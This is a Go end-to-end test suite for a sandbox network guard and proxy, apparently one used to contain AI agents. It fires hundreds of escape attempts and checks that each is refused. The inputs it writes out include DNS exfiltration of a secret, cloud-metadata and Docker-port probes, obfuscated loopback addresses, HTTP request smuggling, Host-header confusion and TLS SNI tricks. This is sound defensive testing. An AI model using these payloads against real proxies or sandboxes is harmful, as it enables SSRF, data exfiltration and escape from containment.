package e2e

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"strings"
	"testing"

	"aibox/test/testnet"
)

// directRoutes are ways around the guard that every policy blocks. They do not include the guard's
// own ports that the policy allows.
func directRoutes(bridge, neighbor string) []attack {
	var all []attack
	for _, to := range []struct {
		host string
		port int
	}{
		{"1.1.1.1", 443},
		{"1.1.1.1", 80},
		{"8.8.8.8", 53},
		{"9.9.9.9", 853},
		{"2606:4700:4700::1111", 443},
		{"2001:4860:4860::8888", 53},
		{"ff02::1", 80},
		{"169.254.169.254", 80},
		{"169.254.170.2", 80},
		{"fd00:ec2::254", 80},
		{"100.100.100.200", 80},
		{"168.63.129.16", 80},
		{"10.0.2.2", 22},
		{"10.0.2.2", 80},
		{"10.0.2.3", 53},
		{"10.0.2.100", 80},
		{"172.17.0.1", 22},
		{"172.17.0.1", 2375},
		{"192.168.1.1", 80},
		{"192.0.2.1", 80},
		{"100.64.0.1", 80},
		{bridge, 22},
		{bridge, 80},
		{bridge, 11434},
		{bridge, 3128},
		{bridge, 11435},
		{bridge, 53},
		{neighbor, 8000},
		{guardAddress, 22},
		{guardAddress, 80},
		{guardAddress, 443},
		{guardAddress, 2375},
		{guardAddress, 11435},
		{guardAddress, 11436},
		{"10.200.200.2", 11434},
		{"0.0.0.0", 11434},
		{"255.255.255.255", 80},
		{"11.11.0.1", 443},
		{"11.11.0.255", 80},
	} {
		all = append(all, direct(to.host, to.port))
	}
	quic := append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0}, make([]byte, 1184)...)
	for _, to := range []struct {
		name, host string
		port       int
		data       []byte
	}{
		{"QUIC", "1.1.1.1", 443, quic},
		{"QUIC", "2606:4700:4700::1111", 443, quic},
		{"NTP", "162.159.200.1", 123, make([]byte, 48)},
		{"DNS", "8.8.8.8", 53, query("example.com", 1)},
		{"DNS", "10.0.2.3", 53, query("example.com", 1)},
		{"DNS", bridge, 53, query("example.com", 1)},
		{"DNS", "2001:4860:4860::8888", 53, query("example.com", 1)},
		{"mDNS", "224.0.0.251", 5353, query("host.local", 1)},
		{"SSDP", "239.255.255.250", 1900, []byte("M-SEARCH * HTTP/1.1\r\n\r\n")},
		{"a guess", guardAddress, 11434, []byte("x")},
		{"a guess", guardAddress, 3128, []byte("x")},
		{"a guess", guardAddress, 11435, []byte("x")},
		{"a guess", neighbor, 8000, []byte("x")},
	} {
		all = append(all, datagram(to.name, to.host, to.port, to.data))
	}
	return all
}

// lookups are DNS queries that carry a secret out, or would. Each has to be answered at once
// by the guard that there is no such name.
func lookups(name string) []attack {
	var all []attack
	for _, kind := range []uint16{1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 43, 64, 65, 99, 251, 252, 255, 256, 257, 32769} {
		all = append(all, attack{
			name: fmt.Sprintf("DNS %s type %d", name, kind), udp: true, host: guardAddress, port: 53,
			steps: []move{{Send: query(name, kind)}}, want: notResolved,
		})
	}
	return all
}

const notResolved = "the name server refuses"

// isRefusedLookup reports whether the packet says that there is no such name, and no more.
func isRefusedLookup(packet []byte) bool {
	return len(packet) >= 12 && bytes.Equal(packet[:2], []byte{0xab, 0xcd}) && packet[3]&0xf == 3 && bytes.Equal(packet[6:10], make([]byte, 4))
}

// forbiddenAddresses are spellings of addresses that no list makes reachable, with the
// reason.
var forbiddenAddresses = map[string]string{
	"127.0.0.1": "loopback", "127.1.2.3": "loopback", "[::1]": "loopback", "10.0.0.1": "private network", "172.16.0.1": "private network", "192.168.0.1": "private network",
	"[fd00::1]": "private network", "100.64.0.1": "carrier-grade NAT", "169.254.1.1": "link-local", "[fe80::1]": "link-local", "169.254.169.254": "metadata", "[fd00:ec2::254]": "metadata",
	"168.63.129.16": "metadata", "224.0.0.1": "multicast", "255.255.255.255": "not a public address", "0.0.0.0": "not a public address", "10.200.200.1": "private network",
	"[::ffff:10.0.0.1]": "IPv4 address inside", "[::ffff:127.0.0.1]": "IPv4 address inside", "[64:ff9b::7f00:1]": "IPv4 address inside", "[2002:7f00:1::]": "IPv4 address inside", "[2001:0:7f00:1::]": "IPv4 address inside", "[::7f00:1]": "IPv4 address inside",
	"192.0.2.1": "not a public address", "198.18.0.1": "not a public address",
	"2130706433": "different ways", "0x7f000001": "different ways", "0x7f.0.0.1": "different ways", "0177.0.0.1": "different ways", "127.1": "different ways", "127.0.1": "different ways", "１２７.0.0.1": "no URL has",
	"fe80::1%25eth0": "", "[fe80::1%25eth0]": "",
	testnet.Loopback: "loopback", testnet.Private: "private network", testnet.Metadata: "metadata", testnet.Shared: "carrier-grade NAT", "localhost": "",
}

// addressTricks tries every forbidden address through the proxy, by CONNECT and by URL.
// localhost is the reason for that name, which no list has.
func addressTricks(localhost string) []attack {
	var all []attack
	for host, reason := range forbiddenAddresses {
		if host == "localhost" {
			reason = localhost
		}
		name := "CONNECT " + host
		all = append(all, sends(name, "CONNECT "+host+":443 HTTP/1.1\r\nHost: "+host+":443\r\nX: MARK\r\n\r\n", reason))
		name = "GET " + host
		all = append(all, sends(name, "GET http://"+host+"/MARK HTTP/1.1\r\nHost: "+host+"\r\n\r\n", reason))
	}
	return all
}

// proxyTricks tries to reach denied, or to send allowed what it must not get. plain and tls
// name the ports of allowed.
func proxyTricks(allowed, denied string) []attack {
	get := func(name, target, fields, want string) attack {
		return sends(name, "GET "+target+" HTTP/1.1\r\n"+fields+"\r\n", want)
	}
	host := "Host: " + allowed + "\r\n"
	url := "http://" + allowed + "/MARK"
	post := "POST " + url + " HTTP/1.1\r\n" + host
	hello := func(name string, size int, extensions ...extension) []byte {
		return clientHello(name, size, extensions...)
	}
	sni := serverName(allowed)
	tls := func(name, want string, size int, extensions ...extension) attack {
		return tunnels(name, allowed+":443", want, hello(name, size, extensions...))
	}
	segmented := func(name, want string, size int) attack {
		raw := hello(name, 1<<14, sni, extension{0x4a4a, make([]byte, 600)})
		var pieces [][]byte
		for len(raw) > 0 {
			n := min(size, len(raw))
			pieces, raw = append(pieces, raw[:n]), raw[n:]
		}
		return tunnels(name, allowed+":443", want, pieces...)
	}
	inside := func(name, port, request, want string) attack {
		return tunnels(name, allowed+":"+port, want, []byte(request))
	}
	upper := strings.ToUpper(allowed)
	ech := extension{0xfe0d, append([]byte{0, 0, 1, 0, 1, 7, 0, 32}, append(make([]byte, 32), 0, 16, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16)...)}
	return []attack{
		// These must work, or the attacks below prove nothing.
		get("plain", url, host, reaches),
		get("upper case", "HTTP://"+upper+"/MARK", "Host: "+upper+"\r\n", reaches),
		get("trailing dot", "http://"+allowed+"./MARK", "Host: "+allowed+".\r\n", reaches),
		get("port 80 spelled out", "http://"+allowed+":80/MARK", host, reaches),
		tls("TLS", reaches, 1<<14, sni),
		tls("TLS in records of 7 bytes", reaches, 7, sni),
		tls("TLS with unknown extensions", reaches, 1<<14, extension{0x0a0a, nil}, sni, extension{0xfafa, []byte{0}}),
		tls("TLS with early data", reaches, 1<<14, sni, extension{42, nil}),
		tls("TLS with the name in upper case", reaches, 1<<14, serverName(upper)),
		segmented("TLS in segments of 50 bytes", reaches, 50),
		inside("plain HTTP in a tunnel", "80", "GET /MARK HTTP/1.1\r\n"+host+"\r\n", reaches),
		inside("plain HTTP to an odd port", "8080", "GET /MARK HTTP/1.1\r\nHost: "+allowed+":8080\r\n\r\n", reaches),
		sends("a chunked body", post+"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", reaches),

		// Names.
		get("denied host", "http://"+denied+"/MARK", "Host: "+denied+"\r\n", "names it"),
		get("denied host in upper case", "http://"+strings.ToUpper(denied)+"./MARK", "Host: "+denied+"\r\n", "names it"),
		sends("CONNECT to the denied host", "CONNECT "+denied+":443 HTTP/1.1\r\n\r\n", "names it"),
		sends("CONNECT to an odd port of the denied host", "CONNECT "+denied+":8080 HTTP/1.1\r\n\r\n", "names it"),
		sends("CONNECT with the allowed host in Host", "CONNECT "+denied+":443 HTTP/1.1\r\nHost: "+allowed+":443\r\n\r\n", "Host field is for"),
		get("another host in Host", url, "Host: "+denied+"\r\n", "Host field is for"),
		get("the denied host in the URL", "http://"+denied+"/MARK", host, "Host field is for"),
		get("another port in Host", url, "Host: "+allowed+":8080\r\n", "Host field is for"),
		get("two Host fields", url, host+"Host: "+denied+"\r\n", "more than one Host"),
		get("two equal Host fields", url, host+host, "more than one Host"),
		get("no Host field", url, "", "no Host field"),
		get("Host with a space before the colon", url, "Host : "+allowed+"\r\n", "NAME: VALUE"),
		get("folded Host", url, "Host:\r\n "+allowed+"\r\n", "NAME: VALUE"),
		get("user name in the URL", "http://"+allowed+"@"+denied+"/MARK", "Host: "+denied+"\r\n", "user name"),
		get("password in the URL", "http://"+allowed+":80@"+denied+"/MARK", "Host: "+denied+"\r\n", "user name"),
		get("backslash", "http://"+denied+"\\@"+allowed+"/MARK", host, "user name"),
		get("NUL in the URL", "http://"+allowed+"\x00."+denied+"/MARK", host, "no URL has"),
		get("percent in the host", "http://"+allowed+"%00."+denied+"/MARK", host, "not a host name"),
		get("fragment", "http://"+allowed+"#@"+denied+"/MARK", host, "fragment"),
		get("no scheme", "//"+allowed+"/MARK", host, "this is a proxy"),
		get("path alone", "/MARK", host, "this is a proxy"),
		get("path alone with the proxy as host", "/MARK", "Host: 10.200.200.1:3128\r\n", "this is a proxy"),
		get("other scheme", "ftp://"+allowed+"/MARK", host, "not an http URL"),
		get("https URL", "https://"+allowed+"/MARK", host, "CONNECT HOST:PORT"),
		get("asterisk", "*", host, "not an http URL"),
		get("odd port", "http://"+denied+":6379/MARK", "Host: "+denied+":6379\r\n", "names it"),
		get("the guard's gateway", "http://10.200.200.1:11434/MARK", "Host: 10.200.200.1:11434\r\n", "private network"),
		get("the proxy itself", "http://10.200.200.1:3128/MARK", "Host: 10.200.200.1:3128\r\n", "private network"),
		sends("CONNECT without a port", "CONNECT "+allowed+" HTTP/1.1\r\n\r\n", "HOST:PORT"),
		sends("CONNECT to port 0", "CONNECT "+allowed+":0 HTTP/1.1\r\n\r\n", "HOST:PORT"),
		sends("CONNECT to port 65536", "CONNECT "+allowed+":65536 HTTP/1.1\r\n\r\n", "HOST:PORT"),
		sends("CONNECT to a URL", "CONNECT http://"+allowed+":80/ HTTP/1.1\r\n\r\n", "HOST:PORT"),
		sends("CONNECT with a user name", "CONNECT "+allowed+"@"+denied+":443 HTTP/1.1\r\n\r\n", "HOST:PORT"),
		sends("CONNECT with a body", "CONNECT "+allowed+":80 HTTP/1.1\r\nContent-Length: 4\r\n\r\nMARK", "no body"),

		// Things that parsers interpret differently.
		sends("length and encoding", post+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nMARK", "both Content-Length"),
		sends("two lengths", post+"Content-Length: 0\r\nContent-Length: 64\r\n\r\nMARK", "not one number"),
		sends("a list of lengths", post+"Content-Length: 0, 64\r\n\r\nMARK", "not one number"),
		sends("a length with a sign", post+"Content-Length: +64\r\n\r\nMARK", "not one number"),
		sends("unknown encoding", post+"Transfer-Encoding: xchunked\r\n\r\nMARK", "chunked"),
		sends("two encodings", post+"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nMARK", "chunked"),
		sends("encoding with HTTP/1.0", "POST "+url+" HTTP/1.0\r\n"+host+"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "chunked"),
		sends("bare LF", "GET "+url+" HTTP/1.1\nHost: "+allowed+"\n\r\n\r\n", ""),
		sends("bare CR", "GET "+url+" HTTP/1.1\r\nHost: "+allowed+"\rX: y\r\n\r\n", "control character"),
		sends("NUL in a field", "GET "+url+" HTTP/1.1\r\n"+host+"X: a\x00b\r\n\r\n", "control character"),
		sends("HTTP/2 with prior knowledge", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "HTTP/1.1 and HTTP/1.0"),
		sends("HTTP/0.9", "GET "+url+"\r\n\r\n", "METHOD TARGET"),
		sends("a space in the target", "GET "+url+" x HTTP/1.1\r\n"+host+"\r\n", "HTTP/1.1"),
		sends("a head of 40 KiB", "GET "+url+" HTTP/1.1\r\n"+host+"X: "+strings.Repeat("a", 40<<10)+"\r\n\r\n", "at most"),
		sends("500 fields", "GET "+url+" HTTP/1.1\r\n"+host+strings.Repeat("A: b\r\n", 500)+"\r\n", "at most"),
		sends("TRACE", "TRACE "+url+" HTTP/1.1\r\n"+host+"\r\n", "TRACE"),
		sends("a second request after a smuggled one", post+"Content-Length: 3\r\n\r\nabcGET http://"+denied+"/x HTTP/1.1\r\nHost: "+denied+"\r\n\r\n", reaches), // the first; the second is denied by name
		sends("TLS to the proxy", string(hello("TLS to the proxy", 1<<14, sni)), nothing),
		sends("SOCKS 5", "\x05\x01\x00", nothing),

		// Inside a tunnel.
		tls("another server name", onlyLog+"the TLS server name is", 1<<14, serverName(denied)),
		tls("no server name", onlyLog+"names no server", 1<<14),
		tls("two server names in one extension", onlyLog+"ClientHello", 1<<14, serverName(allowed, denied)),
		tls("two server name extensions", onlyLog+"ClientHello", 1<<14, sni, serverName(denied)),
		tls("an address as server name", onlyLog+"the TLS server name is", 1<<14, serverName("11.11.0.1")),
		tls("a server name with NUL", onlyLog+"ClientHello", 1<<14, serverName(allowed+"\x00."+denied)),
		tls("an empty server name", onlyLog+"ClientHello", 1<<14, serverName("")),
		tls("a server name below the host", onlyLog+"the TLS server name is", 1<<14, serverName("a."+allowed)),
		tls("an encrypted ClientHello", onlyLog+"encrypted", 1<<14, sni, ech),
		tls("an extension that is longer than the message", onlyLog+"ClientHello", 1<<14, extension{0, []byte{0xff, 0xff, 0, 0, 1}}),
		tunnels("another server name in records of 3 bytes", allowed+":443", onlyLog+"", clientHello("another server name in records of 3 bytes", 3, serverName(denied))),
		inside("SSH on port 443", "443", "SSH-2.0-MARK\r\n", onlyLog+"TLS and nothing else"),
		inside("HTTP on port 443", "443", "GET /MARK HTTP/1.1\r\n"+host+"\r\n", onlyLog+"TLS and nothing else"),
		inside("HTTP/2 in clear on port 80", "80", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK", "HTTP/1.1 and HTTP/1.0"),
		inside("unknown bytes on port 8080", "8080", "\x00\x01\x02MARK", onlyLog+"something else"),
		inside("Redis on port 8080", "8080", "*1\r\n$4\r\nMARK\r\n", nothing),
		inside("HTTP on port 22", "22", "GET /MARK HTTP/1.1\r\n"+host+"\r\n", onlyLog+"SSH and nothing else"),
		inside("another host in a tunnel", "80", "GET /MARK HTTP/1.1\r\nHost: "+denied+"\r\n\r\n", "but the tunnel is for"),
		inside("another URL in a tunnel", "80", "GET http://"+denied+"/MARK HTTP/1.1\r\nHost: "+denied+"\r\n\r\n", "but the tunnel is for"),
		inside("another port in a tunnel", "80", "GET http://"+allowed+":8080/MARK HTTP/1.1\r\nHost: "+allowed+":8080\r\n\r\n", "but the tunnel is for"),
		inside("CONNECT in a tunnel", "80", "CONNECT "+allowed+":443 HTTP/1.1\r\nHost: "+allowed+":443\r\n\r\n", "inside a tunnel"),
		inside("CONNECT to the denied host in a tunnel", "8080", "CONNECT "+denied+":443 HTTP/1.1\r\n\r\n", "inside a tunnel"),
		inside("smuggling in a tunnel", "80", "POST /MARK HTTP/1.1\r\n"+host+"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n", "both Content-Length"),
		inside("another host at an odd port in a tunnel", "8080", "GET /x HTTP/1.1\r\nHost: "+denied+":8080\r\nX: MARK\r\n\r\n", "but the tunnel is for"),
	}
}

func TestNoTrickGetsPastTheProxy(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	// A second session, which the first must not reach, and ports of the host itself.
	neighbor := m.detached("shell", "--network", "local", "--inference", m.script("[[step]]\nsay = \"hello\"\n"), "--repo", m.repo("other", nil), "--", "sh", "-c",
		`hostname -I; exec python3 -m http.server --bind 0.0.0.0 8000`)
	watcher := m.start("logs", "-f", neighbor)
	watcher.stdout.await(t, "\n")
	sandbox, _, _ := strings.Cut(strings.TrimSpace(watcher.stdout.String()), " ")
	bridge := m.record(neighbor).State.Network.Gateway.String()
	// The attacked server must answer from before the first attack until after the last one, or a
	// refused connection proves nothing.
	answers := func() bool {
		return m.exec(aibox, "exec", neighbor, "--", "curl", "-sf", "-o", "/dev/null", "http://"+sandbox+":8000").code == 0
	}
	t.Cleanup(func() { // after the parallel subtests, unlike a deferred call
		if !answers() {
			t.Error("the neighbor's server has ended")
		}
		m.aibox(0, "stop", neighbor)
		m.aibox(0, "rm", "-f", neighbor)
	})
	eventually(t, hung, "the neighbor's server answers", answers)

	for _, policy := range []string{"allowlist", "public", "local", "none"} {
		t.Run(policy, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			allowed, denied, unlisted := newCanary(t, 22, 80, 443, 8080), newCanary(t, 22, 80, 443, 8080), newCanary(t, 22, 80, 443, 6379)
			secret := hex.EncodeToString(sha256.New().Sum([]byte(policy)))[:40]
			all := append(directRoutes(bridge, sandbox), lookups(secret+".exfil.example")...)
			all = append(all, lookups(allowed.Name)[:2]...)
			args := []string{"--network", policy}
			if policy == "allowlist" || policy == "public" {
				args = append(args, "--deny", denied.Name)
				all = append(all, proxyTricks(allowed.Name, denied.Name)...)
			}
			switch policy {
			case "allowlist":
				// For every list: these names resolve to addresses that are never allowed.
				for _, host := range []string{allowed.Name, denied.Name, testnet.Loopback, testnet.Private, testnet.Metadata, testnet.Shared} {
					args = append(args, "--allow", host+":*")
				}
				all = append(all, addressTricks("no entry of the allow list")...)
				all = append(all,
					sends("an unlisted host", "GET http://"+unlisted.Name+"/MARK HTTP/1.1\r\nHost: "+unlisted.Name+"\r\n\r\n", "no entry of the allow list"),
					sends("CONNECT to an unlisted host", "CONNECT "+unlisted.Name+":443 HTTP/1.1\r\n\r\n", "no entry of the allow list"),
					sends("CONNECT to its address", "CONNECT "+unlisted.Address.String()+":443 HTTP/1.1\r\n\r\n", "no entry of the allow list"),
					sends("CONNECT to the address of an allowed host", "CONNECT "+allowed.Address.String()+":443 HTTP/1.1\r\n\r\n", "no entry of the allow list"),
					sends("a name in DNS over HTTPS", "CONNECT dns.example:443 HTTP/1.1\r\n\r\n", "no entry of the allow list"),
				)
			case "public":
				args = append(args, "--allow", allowed.Name+":*")
				all = append(all, addressTricks("")...)
				all = append(all,
					sends("an odd port of an unlisted host", "CONNECT "+unlisted.Name+":6379 HTTP/1.1\r\n\r\n", "ports 443 and 80 only"),
					sends("SSH to an unlisted host", "CONNECT "+unlisted.Name+":22 HTTP/1.1\r\n\r\n", "ports 443 and 80 only"),
				)
			default:
				all = append(all, direct(guardAddress, proxyPort))
			}
			if policy == "none" {
				all = append(all, direct(guardAddress, 11434))
			}
			t.Logf("%d attacks", len(all))
			m.attacks(all, []*canary{allowed}, []*canary{denied, unlisted}, args...)
		})
	}
}

// The addresses of this machine are refused, also by name, and with a list that has them.
func TestTheMachinesOwnAddressesAreNeverReached(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	listener, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	reached := make(chan string, 64)
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			reached <- conn.RemoteAddr().String()
			conn.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(listener.Addr().String())
	own, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var all []attack
	for _, address := range own {
		ip := address.(*net.IPNet).IP
		if ip.IsLinkLocalUnicast() {
			continue
		}
		host := ip.String()
		if ip.To4() == nil {
			host = "[" + host + "]"
		}
		all = append(all, sends("CONNECT "+host, "CONNECT "+host+":"+port+" HTTP/1.1\r\n\r\n", ""))
		all = append(all, sends("GET "+host, "GET http://"+host+":"+port+"/MARK HTTP/1.1\r\nHost: "+host+":"+port+"\r\n\r\n", ""))
	}
	for _, name := range []string{"localhost", testnet.Loopback} {
		all = append(all, sends("CONNECT "+name, "CONNECT "+name+":"+port+" HTTP/1.1\r\n\r\n", ""))
	}
	m.attacks(all, nil, nil, "--network", "public", "--allow", testnet.Loopback+":*")
	select {
	case from := <-reached:
		t.Errorf("the machine was reached from %s", from)
	default:
	}
}
